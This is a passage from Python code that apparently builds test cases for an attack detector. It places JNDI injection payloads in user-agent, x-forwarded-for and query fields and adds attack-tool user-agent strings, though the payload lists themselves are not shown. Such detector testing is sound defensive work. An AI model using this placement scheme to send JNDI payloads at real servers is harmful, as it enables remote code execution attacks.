                      else {"query": query(template=payload)}))
    for index, payload in enumerate(JNDI):
        where = index % 3
        if where == 0:
            cases.append(("jndi_injection", {"headers": {"user-agent": payload}}))
        elif where == 1:
            cases.append(("jndi_injection", {"headers": {"x-forwarded-for": payload}}))
        else:
            cases.append(("jndi_injection", {"query": query(q=payload)}))
    for payload in TOOL_USER_AGENTS:
        cases.append(("attack_tool", {"headers": {"user-agent": payload}}))
    for kind, payload in LATER:
        if kind == "attack_tool":
            cases.append((kind, {"headers": {"user-agent": payload}}))
        else:
            cases.append((kind, {"query": query(q=payload)}))
    return cases
